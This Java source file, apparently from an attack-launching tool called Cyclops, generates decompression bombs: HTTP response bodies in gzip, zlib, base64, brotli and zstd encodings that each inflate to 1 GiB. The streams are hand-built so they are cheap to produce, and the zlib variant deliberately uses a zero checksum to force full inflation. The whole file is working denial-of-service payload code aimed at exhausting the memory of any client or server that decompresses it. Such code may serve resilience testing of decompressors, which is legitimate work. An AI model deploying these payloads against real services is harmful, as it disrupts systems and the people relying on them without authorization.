/*
 * Copyright the Cyclops authors
 * SPDX-License-Identifier: MIT
 */
package dev.cyclops.launcher.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.util.Base64;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * A body that inflates to 1 GiB of blanks. The streams are valid to their last byte, and are put
 * together of pieces, so that nobody has to compress a gibibyte.
 */
enum Bomb {
  GZIP("gzip") {
    @Override
    byte[] body() {
      return gzip(PIECES);
    }
  },
  GZIP_OF_MEMBERS("gzip") {
    @Override
    byte[] body() {
      return repeated(gzip(1), PIECES);
    }
  },
  ZLIB("deflate") {
    @Override
    byte[] body() {
      return zlib();
    }
  },
  BASE64("") {
    @Override
    byte[] body() {
      return Base64.getEncoder().encode(zlib());
    }
  },
  BROTLI("br") {
    @Override
    byte[] body() {
      return brotli();
    }
  },
  ZSTD("zstd") {
    @Override
    byte[] body() {
      return zstd();
    }
  };

  private static final int PIECE_BYTES = 16 << 20;
  private static final int PIECES = 64;

  /** Its Content-Encoding; empty for none. */
  final String encoding;

  Bomb(String encoding) {
    this.encoding = encoding;
  }

  /** The bytes on the wire. */
  abstract byte[] body();

  private static byte[] gzip(int pieces) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(new byte[] {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, 3});
    deflate(out, pieces);
    CRC32 checksum = new CRC32();
    byte[] piece = blanks();
    for (int i = 0; i < pieces; i++) {
      checksum.update(piece);
    }
    littleEndian(out, (int) checksum.getValue(), 4);
    littleEndian(out, pieces * PIECE_BYTES, 4);
    return out.toByteArray();
  }

  /** With a checksum of nothing: whoever looks at it has inflated all of it. */
  private static byte[] zlib() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(new byte[] {0x78, (byte) 0x9c});
    deflate(out, PIECES);
    littleEndian(out, 0, 4);
    return out.toByteArray();
  }

  private static void deflate(ByteArrayOutputStream out, int pieces) {
    Deflater deflater = new Deflater(9, true);
    deflater.setInput(blanks());
    byte[] compressed = new byte[64 << 10];
    int length = deflater.deflate(compressed, 0, compressed.length, Deflater.FULL_FLUSH);
    deflater.end();
    for (int i = 0; i < pieces; i++) {
      out.write(compressed, 0, length);
    }
    // An empty last block.
    out.writeBytes(new byte[] {3, 0});
  }

  /** Blocks of one byte each, repeated 128 KiB times (RFC 8878, 3.1.1.2.2). */
  private static byte[] zstd() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    littleEndian(out, 0xFD2FB528, 4);
    out.write(0);
    // A window of 128 KiB.
    out.write(7 << 3);
    int blocks = PIECES * (PIECE_BYTES >> 17);
    for (int i = 0; i < blocks; i++) {
      int last = i == blocks - 1 ? 1 : 0;
      littleEndian(out, last | 1 << 1 | 1 << 17 << 3, 3);
      out.write(' ');
    }
    return out.toByteArray();
  }

  /**
   * Meta-blocks of 16 MiB, each a literal and one copy of all the rest from distance 1 (RFC 7932).
   */
  private static byte[] brotli() {
    BitWriter out = new BitWriter();
    // A window of 64 KiB.
    out.bits(0, 1);
    for (int i = 0; i < PIECES; i++) {
      metaBlock(out);
    }
    // Last, and empty.
    out.bits(3, 2);
    return out.bytes();
  }

  private static void metaBlock(BitWriter out) {
    // Not last; six nibbles for the length less one; compressed.
    out.bits(0, 1);
    out.bits(2, 2);
    out.bits(PIECE_BYTES - 1, 24);
    out.bits(0, 1);
    // One block type for literals, commands and distances each.
    out.bits(0, 3);
    // No postfix bits, no direct distances.
    out.bits(0, 6);
    // Literals are taken by the lowest six bits of the last; one tree for each kind.
    out.bits(0, 2);
    out.bits(0, 2);
    simpleTree(out, ' ', 8);
    // Insert code 1 is one literal, copy code 23 is 2118 and 24 more bits; their cell is at 384.
    simpleTree(out, 384 + (1 << 3) + (23 & 7), 10);
    // Distance 1: with no direct ones, code 16 is 1 and one more bit.
    simpleTree(out, 16, 6);
    // The one command: no extra bits to insert, 24 to copy, 1 for the distance.
    out.bits(PIECE_BYTES - 1 - 2118, 24);
    out.bits(0, 1);
  }

  private static void simpleTree(BitWriter out, int symbol, int alphabetBits) {
    out.bits(1, 2);
    out.bits(0, 2);
    out.bits(symbol, alphabetBits);
  }

  private static byte[] blanks() {
    return " ".repeat(PIECE_BYTES).getBytes(US_ASCII);
  }

  private static byte[] repeated(byte[] bytes, int times) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (int i = 0; i < times; i++) {
      out.writeBytes(bytes);
    }
    return out.toByteArray();
  }

  private static void littleEndian(ByteArrayOutputStream out, int value, int count) {
    for (int i = 0; i < count; i++) {
      out.write(value >>> 8 * i);
    }
  }

  /** Writes bits from the lowest up. */
  private static final class BitWriter {
    private final ByteArrayOutputStream out = new ByteArrayOutputStream();
    private long pending;
    private int count;

    void bits(int value, int length) {
      pending |= (long) value << count;
      for (count += length; count >= 8; count -= 8) {
        out.write((int) pending);
        pending >>>= 8;
      }
    }

    byte[] bytes() {
      if (count > 0) {
        out.write((int) pending);
      }
      return out.toByteArray();
    }
  }
}
